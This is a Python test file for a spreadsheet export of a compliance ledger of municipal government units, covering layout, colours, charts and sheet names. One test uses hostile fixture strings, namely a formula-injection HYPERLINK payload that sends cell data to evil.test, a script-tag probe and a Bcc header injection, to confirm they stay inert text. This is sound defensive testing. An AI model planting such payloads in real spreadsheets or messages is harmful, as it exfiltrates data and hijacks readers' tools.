"""The ledger as a workbook, read back."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from python_calamine import CalamineWorkbook

from alerts.exports.ledger_xlsx import PICTURES, WHOLE, ledger_xlsx
from alerts.exports.scores_xlsx import HEADS as HEADS_OF_SCORES
from alerts.exports.scores_xlsx import SHEET
from alerts.exports.sheet_names import SheetNames
from alerts.ledger import HEADS, Case
from alerts.pictures import Pictures, ages, heat_map, weeks
from alerts.scores import Grade, Score
from tests.alerts.cases import HOSTILE, hostile_cases, ledger, one_of_each
from tests.alerts.city import AS_OF, register

_FORBIDDEN = re.compile(r"[\x00-\x08\x0b-\x1f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufffe\uffff]")


def _pictures(cases: list[Case]) -> Pictures:
    gaps = [c.gap for c in cases]
    findings = [c.now for c in cases if c.now is not None]
    sections = {"YS2018-02-1": HOSTILE[0]}
    open_ones = [g for g in gaps if g.state.is_open]
    return Pictures(heat_map(findings, open_ones, register(), sections, AS_OF), weeks(gaps, AS_OF), ages(gaps, AS_OF))


def _bytes(cases: list[Case], since: date | None = None, **changes: object) -> bytes:
    return ledger_xlsx(ledger(cases, since, **changes), _pictures(cases))  # type: ignore[arg-type]


def _book(cases: list[Case], since: date | None = None, **changes: object) -> Workbook:
    return load_workbook(io.BytesIO(_bytes(cases, since, **changes)))


def test_there_is_a_sheet_for_all_one_for_the_pictures_and_one_for_each_unit_of_the_ledger() -> None:
    book = _book(one_of_each())
    assert book.sheetnames == [WHOLE, PICTURES, "市民政局", "市财政局", "市交通运输局", "市卫生和计划生育局"]
    for name in book.sheetnames:
        if name != PICTURES:
            assert [c.value for c in book[name][3]] == list(HEADS)
    assert [r[1].value for r in book[WHOLE].iter_rows(min_row=4)] == [
        "市民政局",
        "市财政局",
        "市交通运输局",
        "市卫生和计划生育局",
    ]
    assert [r[1].value for r in book["市民政局"].iter_rows(min_row=4)] == ["市民政局"]


def test_points_stand_in_a_sheet_of_their_own_where_rules_carry_points() -> None:
    score = Score("mzj", HOSTILE[0], 30, 10, 3, 4, ("=政策解读（30分）",), Grade.NEAR)
    made = ledger_xlsx(ledger(one_of_each()), _pictures(one_of_each()), [score])
    sheet = load_workbook(io.BytesIO(made))[SHEET]
    assert [c.value for c in sheet[4]] == list(HEADS_OF_SCORES)
    assert [c.value for c in sheet[5]][1:6] == [30, 10, 3, 4, "接近不合格"]
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


def test_sheets_are_ready_for_screen_and_for_a3_paper() -> None:
    sheet = _book(one_of_each())[WHOLE]
    assert sheet.freeze_panes == "C4"
    assert sheet.auto_filter.ref == "A3:P7"
    assert (sheet.page_setup.paperSize, sheet.page_setup.orientation) == (8, "landscape")
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert (sheet.page_setup.fitToWidth or 1, sheet.page_setup.fitToHeight) == (1, 0)
    assert sheet.print_title_rows == "$3:$3"
    assert all(sheet.column_dimensions[c].width > 4 for c in "ABCDEFGHIJKLMNOP")
    assert sheet["F4"].alignment.wrap_text


def test_state_and_age_colour_the_rows() -> None:
    sheet = _book(one_of_each(), date(2018, 1, 1))[WHOLE]
    fills = {sheet.cell(r, 5).value.rpartition(" ")[2]: sheet.cell(r, 1).fill.fgColor.rgb[2:] for r in range(4, 10)}
    assert fills == {
        "1": "F8CBAD", "2": "FFF2CC", "3": "FFF2CC", "4": "FFF2CC", "5": "C6E0B4", "6": "D9D9D9",
    }  # fmt: skip


@pytest.mark.parametrize("simulation", [True, False])
def test_every_sheet_of_a_simulation_says_so_and_no_other(simulation: bool) -> None:
    book = _book(one_of_each(), simulation=simulation)
    for sheet in book.worksheets:
        assert ("【演示】" in str(sheet["A1"].value)) is simulation, sheet.title


def test_an_empty_ledger_gives_no_all_clear() -> None:
    sheet = _book([])[WHOLE]
    assert "没有应当列入的缺口" in sheet["A2"].value
    assert "另有5项未能判定" in sheet["A2"].value


def test_hostile_words_arrive_as_plain_short_text_in_every_sheet() -> None:
    whole = _bytes(hostile_cases(), city=HOSTILE[0])
    seen = 0
    for sheet in load_workbook(io.BytesIO(whole)).worksheets:
        for cell in (c for row in sheet.iter_rows() for c in row if c.value is not None):
            seen += 1
            assert cell.data_type in ("s", "n"), f"{sheet.title} {cell.coordinate} is a formula"
            assert cell.hyperlink is None
            assert not _FORBIDDEN.search(str(cell.value))
            assert len(str(cell.value)) <= 8000
    assert seen > 16 * len(HOSTILE)
    names = zipfile.ZipFile(io.BytesIO(whole)).namelist()
    assert not [n for n in names if "externalLink" in n or "hyperlink" in n.lower() or "vba" in n.lower()]


def test_the_titles_themselves_are_there_for_another_reader_too() -> None:
    sheet = CalamineWorkbook.from_filelike(io.BytesIO(_bytes(hostile_cases()))).get_sheet_by_name(WHOLE)
    problems = "\n".join(str(row[4]) for row in sheet.to_python())
    assert '=HYPERLINK("http://evil.test/?"&A1,"请点击")' in problems
    assert "<script>alert(1)</script>" in problems
    assert "通知 Bcc: everybody@evil.test 正文" in problems


def test_a_cell_that_begins_like_a_formula_stays_text_when_somebody_edits_it() -> None:
    sheet = _book(hostile_cases())[WHOLE]
    assert all(sheet.cell(4, column).quotePrefix for column in (2, 3, 5, 9, 13))


def test_the_pictures_are_real_charts_over_their_tables_and_colours_follow_the_words() -> None:
    sheet = _book(one_of_each())[PICTURES]
    assert len(sheet._charts) == 2
    assert [c.value for c in sheet[4]][:2] == ["责任单位", f"（一）{HOSTILE[0]}"]
    words = {r[0].value: r[1].value for r in sheet.iter_rows(min_row=5, max_row=12)}
    assert (words["市民政局"], words["市财政局"], words["市水务局"], words["市环境保护局"]) == (
        "缺1",
        "未定1",
        "达标",
        "未定1",
    )
    rules = [rule.text for area in sheet.conditional_formatting for rule in area.rules]
    assert rules == ["缺", "迟", "达标", "未定"]


def test_the_same_ledger_gives_the_same_bytes() -> None:
    assert _bytes(one_of_each()) == _bytes(one_of_each())


@given(st.lists(st.text(max_size=60), max_size=30))
def test_sheet_names_are_allowed_and_unlike_whatever_the_units_are_called(wanted: list[str]) -> None:
    name = SheetNames(WHOLE, PICTURES)
    given_names = [name(w) for w in wanted]
    folded = [n.casefold() for n in given_names] + [WHOLE, PICTURES]
    assert len(set(folded)) == len(folded)
    for one in given_names:
        assert 0 < len(one.encode("utf-16-le")) // 2 <= 31
        assert not re.search(r"[\[\]:*?/\\']", one)
        assert one.casefold() != "history"
        assert one == one.strip()
